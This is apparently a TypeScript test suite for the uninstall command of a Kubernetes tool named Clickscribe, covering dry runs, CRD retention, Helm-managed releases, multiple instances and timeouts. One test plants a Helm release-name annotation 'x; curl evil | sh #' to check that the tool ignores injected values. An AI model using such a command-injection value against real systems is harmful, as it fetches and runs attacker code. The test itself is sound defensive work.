import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { fakeKinds } from "../../../test/fakes/cluster.ts";
import { type CliCluster, createCliCluster, say } from "../../../test/fakes/command-line.ts";
import type { JsonObject, Kind } from "../../values.ts";

const kind = (group: string, name: string, resource: string, namespaced = true): Kind => ({
  group,
  version: "v1",
  kind: name,
  resource,
  namespaced,
  verbs: [],
  subresources: [],
});
const kinds = [
  ...fakeKinds,
  kind("", "Pod", "pods"),
  kind("coordination.k8s.io", "Lease", "leases"),
  kind("rbac.authorization.k8s.io", "Role", "roles"),
  kind("rbac.authorization.k8s.io", "ClusterRole", "clusterroles", false),
  kind("admissionregistration.k8s.io", "ValidatingWebhookConfiguration", "validatingwebhookconfigurations", false),
  kind("apiextensions.k8s.io", "CustomResourceDefinition", "customresourcedefinitions", false),
];
const system = "clickscribe-system";

interface More {
  readonly namespace?: string;
  readonly instance?: string;
  readonly annotations?: JsonObject;
  readonly finalizers?: readonly string[];
}

function put(cluster: CliCluster, name: string, called: string, more: More = {}): void {
  const { group, version } = kinds.find((candidate) => candidate.kind === name) ?? assert.fail(name);
  const { namespace, instance = "clickscribe", ...rest } = more;
  const labels = { "app.kubernetes.io/name": "clickscribe", "app.kubernetes.io/instance": instance };
  cluster.put({
    apiVersion: group === "" ? version : `${group}/${version}`,
    kind: name,
    metadata: { name: called, ...(namespace !== undefined && { namespace }), labels, ...rest },
  });
}

function installed(more: More = {}): CliCluster {
  const cluster = createCliCluster(kinds);
  put(cluster, "ClusterRole", "clickscribe", more);
  put(cluster, "Deployment", "clickscribe", { namespace: system, ...more });
  put(cluster, "ValidatingWebhookConfiguration", "clickscribe", more);
  const own = { apiVersion: "v1", metadata: { name: "clickscribe", namespace: system } };
  cluster.put({ ...own, apiVersion: "coordination.k8s.io/v1", kind: "Lease" });
  cluster.put({ ...own, kind: "ConfigMap", metadata: { name: "yours", namespace: system } });
  const crd = { apiVersion: "apiextensions.k8s.io/v1", kind: "CustomResourceDefinition" };
  cluster.put({ ...crd, metadata: { name: "captures.clickscribe.dev" } });
  const labels = { "app.kubernetes.io/managed-by": "clickscribe" };
  const loan = { name: "clickscribe-remote-platform", namespace: "shop", labels };
  cluster.put({ apiVersion: "rbac.authorization.k8s.io/v1", kind: "Role", metadata: loan });
  cluster.put({ apiVersion: "clickscribe.dev/v1alpha1", kind: "Capture", metadata: { name: "a", namespace: "shop" } });
  return cluster;
}

const listed = `  ValidatingWebhookConfiguration clickscribe
  Deployment clickscribe-system/clickscribe
  ClusterRole clickscribe
  Lease clickscribe-system/clickscribe
`;
const kept = `
These stay, with 1 Capture and 0 GitRemotes; --crds removes them too:
  CustomResourceDefinition captures.clickscribe.dev
  Role shop/clickscribe-remote-platform
`;

describe("uninstall", () => {
  it("says what would go", async () => {
    const cluster = installed();
    const said = await say(["uninstall", "--dry-run"], cluster);
    assert.deepEqual(said, { code: 0, out: `These would go from https://k.example:\n${listed}${kept}`, err: "" });
    assert.deepEqual(cluster.done.removed, []);
  });

  it("removes the webhook's configuration first, and keeps the definitions", async () => {
    const cluster = installed();
    const said = await say(["uninstall", "--yes"], cluster);
    assert.deepEqual(said, { code: 0, out: `These go from https://k.example:\n${listed}${kept}Removed.\n`, err: "" });
    assert.deepEqual(
      cluster.done.removed.map((key) => key.split("/")[1]),
      ["ValidatingWebhookConfiguration", "Deployment", "ClusterRole", "Lease"],
    );
    const again = await say(["uninstall", "--yes"], cluster);
    assert.deepEqual(
      [again.code, again.out],
      [0, `Nothing of Clickscribe is left to remove from https://k.example.\n${kept}`],
    );
  });

  it("removes the definitions and what lends Secrets where that is asked for", async () => {
    const cluster = installed();
    const { code, out } = await say(["uninstall", "-y", "--crds"], cluster);
    assert.equal(code, 0);
    assert.match(
      out,
      /With the CustomResourceDefinitions go 1 Capture and 0 GitRemotes; files and record in Git stay\./,
    );
    assert.ok(cluster.done.removed.some((key) => key.includes("CustomResourceDefinition")));
    assert.ok(cluster.done.removed.some((key) => key.includes("clickscribe-remote-platform")));
  });

  it("asks whoever sits there, and nobody else", async () => {
    const cluster = installed();
    const nobody = await say(["uninstall"], cluster);
    assert.deepEqual(
      [nobody.code, nobody.err],
      [2, "clickscribe: nobody can be asked here: give --yes, or --dry-run\n"],
    );
    const env = { HOME: "/", CLICKSCRIBE_YES: "true", CLICKSCRIBE_CRDS: "true" };
    assert.equal((await say(["uninstall"], cluster, { env })).code, 2);
    const no = await say(["uninstall"], cluster, { ask: () => Promise.resolve("") });
    assert.deepEqual([no.code, cluster.done.removed], [1, []]);
    const yes = await say(["uninstall"], cluster, { ask: () => Promise.resolve(" Y ") });
    assert.deepEqual([yes.code, cluster.done.removed.length], [0, 4]);
  });

  it("leaves to Helm what Helm made", async () => {
    const annotations = { "meta.helm.sh/release-name": "scribe", "meta.helm.sh/release-namespace": system };
    const cluster = installed({ annotations });
    cluster.put({ apiVersion: "v1", kind: "Namespace", metadata: { name: system } });
    const { code, err } = await say(["uninstall", "--yes", "--crds"], cluster);
    assert.deepEqual([code, cluster.done.removed], [1, []]);
    assert.match(err, /helm uninstall scribe -n clickscribe-system removes it, then clickscribe uninstall --crds\n$/);
  });

  it("takes what Helm made where its namespace is gone, and with it all that Helm knows", async () => {
    const annotations = { "meta.helm.sh/release-name": "scribe", "meta.helm.sh/release-namespace": system };
    const cluster = createCliCluster(kinds);
    put(cluster, "ClusterRole", "clickscribe", { annotations });
    put(cluster, "ValidatingWebhookConfiguration", "clickscribe", { annotations });
    const { code, err } = await say(["uninstall", "--yes"], cluster);
    assert.deepEqual([code, err, cluster.done.removed.length], [0, "", 2]);
  });

  it("takes one of several installations", async () => {
    const cluster = installed();
    put(cluster, "ClusterRole", "two", { instance: "two" });
    const several = await say(["uninstall", "--yes"], cluster);
    assert.match(several.err, /choose one with --instance clickscribe or two\n$/);
    assert.match(
      (await say(["uninstall", "--dry-run", "--instance", "two"], cluster)).out,
      /^These would go from https:\/\/k\.example:\n {2}ClusterRole two\n\n/,
    );
  });

  it("keeps the definitions while another installation needs them", async () => {
    const cluster = installed();
    const release = { "meta.helm.sh/release-name": "two", "meta.helm.sh/release-namespace": "other" };
    put(cluster, "ClusterRole", "two", { instance: "two", annotations: release });
    put(cluster, "Deployment", "two", { instance: "two", namespace: "other", annotations: release });
    for (const args of [["--yes"], ["--dry-run"]]) {
      const refused = await say(["uninstall", "--crds", "--instance", "clickscribe", ...args], cluster);
      assert.deepEqual([refused.code, cluster.done.removed], [1, []]);
      assert.match(refused.err, /two needs the CustomResourceDefinitions: .* without --crds\n$/);
    }
    const { code } = await say(["uninstall", "--instance", "clickscribe", "--yes"], cluster);
    assert.equal(code, 0);
    assert.ok(cluster.done.removed.every((key) => !key.includes("two")));
  });

  it("waits for the Pods of this installation alone", async () => {
    const cluster = installed();
    put(cluster, "ClusterRole", "two", { instance: "two" });
    put(cluster, "Deployment", "two", { instance: "two", namespace: system });
    put(cluster, "Pod", "two-1", { instance: "two", namespace: system });
    const { code, err } = await say(["uninstall", "--yes", "--instance", "clickscribe", "--timeout", "3s"], cluster);
    assert.deepEqual([code, err], [0, ""]);
  });

  it("believes no release and no installation that only a namespace's objects tell of", async () => {
    const cluster = installed();
    const annotations = { "meta.helm.sh/release-name": "x; curl evil | sh #", "meta.helm.sh/release-namespace": "a" };
    put(cluster, "Deployment", "bait", { namespace: "tenant", instance: "mallory", annotations });
    const { code, out } = await say(["uninstall", "--yes"], cluster);
    assert.equal(code, 0);
    assert.doesNotMatch(out, /bait/);
    assert.ok(!cluster.done.removed.some((key) => key.includes("bait")));
  });

  it("takes what is left of a half-removed installation", async () => {
    const cluster = createCliCluster(kinds);
    put(cluster, "Deployment", "clickscribe", { namespace: system });
    const { code, out } = await say(["uninstall", "--yes"], cluster);
    assert.equal(code, 0);
    assert.match(out, /Deployment clickscribe-system\/clickscribe\n/);
  });

  it("says what is left after the timeout, and why", async () => {
    const cluster = installed();
    const stuck = { ...cluster, remove: () => Promise.resolve(true) };
    put(cluster, "ClusterRole", "clickscribe", { finalizers: ["example.com/hold"] });
    const { code, err } = await say(["uninstall", "--yes", "--timeout", "3s"], stuck);
    assert.equal(code, 1);
    assert.match(err, /^clickscribe: ClusterRole clickscribe is still there: it waits for example\.com\/hold$/m);
    const ending = installed();
    put(ending, "Pod", "clickscribe-1", { namespace: system });
    const pods = await say(["uninstall", "--yes", "--timeout", "3s"], ending);
    assert.match(pods.err, /Deployment clickscribe-system\/clickscribe is still there: its Pods are ending/);
  });

  it("refuses --crds with --keep-crds", async () => {
    const { code, err } = await say(["uninstall", "--crds", "--keep-crds"]);
    assert.deepEqual([code, err], [2, "clickscribe: --crds and --keep-crds exclude each other: give one of them\n"]);
  });
});
